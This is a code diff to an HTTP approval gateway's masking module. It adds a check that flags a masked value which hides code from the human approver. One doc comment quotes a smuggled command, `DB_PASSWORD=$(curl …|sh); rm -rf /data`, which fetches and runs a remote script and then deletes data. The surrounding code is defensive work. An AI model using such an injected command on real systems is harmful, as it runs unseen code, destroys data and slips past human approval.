@@ -6,11 +6,18 @@
 import { createHash } from 'node:crypto';
 import type { RequestBody } from '../../core/action.js';
 import { clipShown } from '../../core/visible-text.js';
-import { maskJsonText, type DetectorSet } from '../../masking/index.js';
+import {
+  jsonViewHidesCode,
+  maskJsonText,
+  stringViewHidesCode,
+  textViewHidesCode,
+  type DetectorSet,
+} from '../../masking/index.js';
 import { undoContentCodings } from './content-coding.js';
 import type { FieldMatcher } from './field-names.js';
 import type { ResponseMasking } from './http-settings.js';
 import { maskXmlText } from './xml-masking.js';
+import { decodeXmlText } from './xml-text.js';
 
 /**
  * A masked body up to this many characters is shown to the approver whole (as a bind parameter and a
@@ -31,6 +38,14 @@ export function reviewedBodyTooLarge(max: number): string {
     `Gatehouse refused the request: it needs approval, and its body is larger than this connection's ` +
     `limit (${max} bytes) for a body Gatehouse reads whole to show it to the approver and bind the approval to it.`
   );
+}
+
+/** Rule id of a reviewed request whose masked view would hide code behind a masked value (class 275). */
+export const HIDDEN_CODE_RULE = 'http-masked-code-body';
+
+/** The message of that refusal: where, never what (the span may be the secret itself). */
+export function hiddenCodeRefusal(hidden: string, advice: string): string {
+  return `Gatehouse refused the request: it needs approval, and ${hidden}. ${advice}`;
 }
 
 /**
@@ -127,23 +142,41 @@ function decodeForm(s: string): string {
   }
 }
 
-/**
- * A form body (the AWS query protocol) as `name=value` lines, decoded: values under sensitive names
- * masked whole, the rest through the detectors.
- */
-function maskForm(text: string, detectors: DetectorSet, fields: FieldMatcher): string {
+/** One field of a form body, decoded, and how the approver is shown it. */
+interface FormField {
+  readonly name: string;
+  readonly value: string | undefined;
+  readonly shownName: string;
+  readonly shownValue: string | undefined;
+}
+
+/** A form body's fields: values under sensitive names masked whole, the rest through the detectors. */
+function formFields(text: string, detectors: DetectorSet, fields: FieldMatcher): FormField[] {
   return text
     .split('&')
     .filter((p) => p !== '')
     .map((part) => {
       const eq = part.indexOf('=');
       const name = decodeForm(eq < 0 ? part : part.slice(0, eq));
-      if (eq < 0) return detectors.mask(name, 'redact', 'text')?.text ?? name;
-      const tag = sensitiveName(name, fields);
-      if (tag !== undefined) return `${name}=[REDACTED:${tag}]`;
+      if (eq < 0)
+        return {
+          name,
+          value: undefined,
+          shownName: detectors.mask(name, 'redact', 'text')?.text ?? name,
+          shownValue: undefined,
+        };
       const value = decodeForm(part.slice(eq + 1));
-      return `${name}=${detectors.mask(value, 'redact', 'text')?.text ?? value}`;
-    })
+      const tag = sensitiveName(name, fields);
+      const shownValue =
+        tag !== undefined ? `[REDACTED:${tag}]` : (detectors.mask(value, 'redact', 'text')?.text ?? value);
+      return { name, value, shownName: name, shownValue };
+    });
+}
+
+/** A form body (the AWS query protocol) as `name=value` lines, decoded and masked. */
+function maskForm(text: string, detectors: DetectorSet, fields: FieldMatcher): string {
+  return formFields(text, detectors, fields)
+    .map((f) => (f.shownValue === undefined ? f.shownName : `${f.name}=${f.shownValue}`))
     .join('\n');
 }
 
@@ -174,4 +207,82 @@ export function httpBodyView(
     if (looksLikeJson(text)) return json(text);
     return undefined;
   };
+}
+
+/**
+ * Why the approver's masked view of a reviewed body would hide what the request runs, for the client;
+ * undefined when every span it masks is a literal, or the body is not shown at all (its note says so).
+ * A masked span that holds whitespace or what a shell or a template reads as code could be a command:
+ * SSM SendCommand's `DB_PASSWORD=$(curl …|sh); rm -rf /data` was shown as `DB_PASSWORD=[REDACTED:password]`
+ * (docs/security.md class 275, as class 252 for Kubernetes). `literal` names the fields that a request
+ * stores as a secret and never runs (a secret store's value, a password a service sets): not compared.
+ */
+export function httpBodyHidesCode(
+  body: Buffer,
+  contentType: string | string[] | undefined,
+  masking: Pick<ResponseMasking, 'detectors' | 'fieldNames' | 'fields'>,
+  options: {
+    readonly contentEncoding?: string | undefined;
+    readonly max?: number;
+    readonly literal?: (text: string) => ((path: string) => boolean) | undefined;
+  } = {},
+): string | undefined {
+  if (body.length === 0) return undefined;
+  const decoded =
+    options.contentEncoding === undefined
+      ? body
+      : decodedForView(body, options.contentEncoding, options.max ?? 8 * 1024 * 1024);
+  if (typeof decoded === 'string') return undefined;
+  let text: string;
+  try {
+    text = utf8.decode(decoded);
+  } catch {
+    return undefined;
+  }
+  let view: ReturnType<BodyView>;
+  try {
+    view = httpBodyView(contentType, masking)(text);
+  } catch {
+    return undefined; // shown as a note that it could not be masked: nothing in it is shown, or hidden
+  }
+  if (typeof view !== 'string' || view === text) return undefined;
+  const literal = options.literal?.(text);
+  const type = mediaType(contentType);
+  let at: string | undefined;
+  if (type === 'application/x-www-form-urlencoded') {
+    for (const f of formFields(text, masking.detectors, masking.fields)) {
+      at =
+        f.value === undefined
+          ? stringViewHidesCode(f.name, f.shownName, "a form field's name")
+          : literal?.(f.name)
+            ? undefined
+            : stringViewHidesCode(f.value, f.shownValue!, f.name);
+      if (at !== undefined) break;
+    }
+  } else if (type.endsWith('/xml') || type.endsWith('+xml')) {
+    // Compared as character data: the view re-encodes a text it masked in part (`'` as `&apos;`).
+    try {
+      at = textViewHidesCode(decodeXmlText(text), decodeXmlText(view), 'the body');
+    } catch {
+      at = 'the body: the view of the body could not be compared with the body';
+    }
+  } else {
+    const original = parsedJson(text);
+    const shown = original === undefined ? undefined : parsedJson(view);
+    at =
+      shown !== undefined
+        ? jsonViewHidesCode(original, shown, literal === undefined ? {} : { literal })
+        : textViewHidesCode(text, view, 'the body');
+  }
+  return at === undefined
+    ? undefined
+    : `in what the approver would be shown, a masked value holds more than a literal (${at.slice(0, 200)}): a command or a script the approver could not see`;
+}
+
+function parsedJson(text: string): unknown {
+  try {
+    return JSON.parse(text) as unknown;
+  } catch {
+    return undefined;
+  }
 }
